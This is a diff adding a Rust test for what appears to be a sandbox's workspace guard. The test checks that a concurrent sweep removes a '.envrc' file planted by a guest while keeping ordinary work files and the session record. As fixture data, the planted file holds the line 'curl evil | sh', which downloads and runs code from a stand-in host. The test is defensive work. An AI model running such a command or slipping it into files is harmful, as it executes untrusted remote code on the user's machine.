@@ -121,6 +121,38 @@ fn g2_what_the_guest_planted_is_removed_and_nothing_else() {
 }
 
 #[test]
+fn g2_a_live_sessions_sweep_removes_what_was_planted_and_keeps_the_record() {
+    let d = repo("sweep-live");
+    let state = dir("sweep-live-records");
+    let opened = stockade_hostfs::open_workspace(&d).unwrap();
+    let mut g = Guarded::inspect_dir(opened.path(), opened.dir().try_clone().unwrap()).unwrap();
+    g.record_in(&state).unwrap();
+    let g = std::sync::Arc::new(g);
+    fs::write(d.join(".envrc"), "curl evil | sh\n").unwrap();
+    fs::write(d.join("work.txt"), "kept\n").unwrap();
+    // Two at once, as a session's heartbeat and an exec's end may: they take turns.
+    let twins: Vec<_> = (0..2)
+        .map(|_| {
+            let g = std::sync::Arc::clone(&g);
+            std::thread::spawn(move || g.sweep_planted())
+        })
+        .collect();
+    let mut removed: Vec<String> = twins.into_iter().flat_map(|t| t.join().unwrap().removed).collect();
+    removed.sort();
+    assert_eq!(removed, [".envrc"], "exactly one of the two removed it");
+    assert!(d.join("work.txt").exists() && !d.join(".envrc").exists());
+    assert_eq!(records(&state).len(), 1, "the record stays while the session lives");
+    // Planted again later, swept again; the final sweep takes the record too.
+    fs::write(d.join(".envrc"), "again\n").unwrap();
+    assert_eq!(g.sweep_planted().removed, [".envrc"]);
+    assert!(g.sweep().removed.is_empty());
+    assert!(records(&state).is_empty(), "the final sweep removes the record");
+    drop(opened);
+    fs::remove_dir_all(&d).unwrap();
+    fs::remove_dir_all(&state).unwrap();
+}
+
+#[test]
 fn g2_a_planted_git_redirect_is_removed() {
     // No `.git` at inspection: a guest's `git init` is fine, but what runs or configures
     // goes, and a `.git` symlink or gitfile pointing at planted hooks goes too.
